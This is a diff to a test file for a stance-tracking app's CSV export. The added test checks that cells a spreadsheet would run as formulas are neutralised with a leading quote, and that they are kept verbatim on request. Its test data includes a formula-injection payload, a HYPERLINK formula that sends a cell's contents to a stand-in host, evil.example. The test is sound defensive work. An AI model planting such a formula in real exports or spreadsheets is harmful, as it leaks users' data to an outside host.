@@ -5,6 +5,8 @@ import { setVerdict } from "../lib/review/verdicts";
 import { codePointOffset } from "../lib/export/web-annotation";
 import { STANCE_CSV_COLUMNS } from "../lib/export/stances-csv";
 import { csvRows } from "../lib/import/parse";
+import { createSource } from "../lib/sources/write-source";
+import { createStance } from "../lib/stances/write-stance";
 import { freshDatabase, type TestDb } from "./helpers/test-db";
 
 // The export routes, on a real seeded database with two verdicts.
@@ -121,7 +123,7 @@ describe("Web Annotation", () => {
 
 describe("stances CSV", () => {
   it("gives one row per live stance, each quote verbatim", async () => {
-    const response = await api.csv.GET();
+    const response = await api.csv.GET(get("/api/export/stances"));
     expect(response.headers.get("content-type")).toContain("text/csv");
     const [header, ...rows] = csvRows(await response.text());
     expect(header).toEqual([...STANCE_CSV_COLUMNS]);
@@ -137,5 +139,24 @@ describe("stances CSV", () => {
     });
     const stored = await t.db.stance.findMany({ where: { retractedAt: null }, select: { quote: true } });
     expect(new Set(rows.map((r) => r[4]))).toEqual(new Set(stored.map((s) => s.quote)));
+  });
+
+  it("neutralises cells a spreadsheet would run as formulas, and gives them verbatim on request", async () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1 555 0100 was the number given", "-3,000 troops, said the ministry", "@SUM(A1:A9) of the reports"];
+    const text = `A hostile page.\n${payloads.join("\n")}\nThe end.`;
+    const source = await createSource(t.db, analyst, { title: "Formula bait", outlet: { new: { name: "Bait Wire", kind: "BLOG" } }, kind: "NEWS_REPORT", language: "en", text });
+    const topic = await t.db.topic.findFirstOrThrow();
+    for (const quote of payloads) {
+      await createStance(t.db, analyst, { sourceId: source.id, quote, claim: { new: { text: `Bait: ${quote}`, topic: topic.slug } }, position: "SUPPORTS", mode: "AS_FACT", speaker: null });
+    }
+    const rowsOf = async (path: string) => csvRows(await (await api.csv.GET(get(path))).text()).filter((r) => r[5] === source.id);
+
+    const safe = await rowsOf("/api/export/stances");
+    expect(safe.map((r) => r[4]).sort()).toEqual(payloads.map((p) => `'${p}`).sort());
+    for (const row of safe) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const verbatim = await rowsOf("/api/export/stances?verbatim=1");
+    expect(verbatim.map((r) => r[4]).sort()).toEqual([...payloads].sort());
+    expect((await api.csv.GET(get("/api/export/stances?verbatim=yes"))).status).toBe(400);
   });
 });
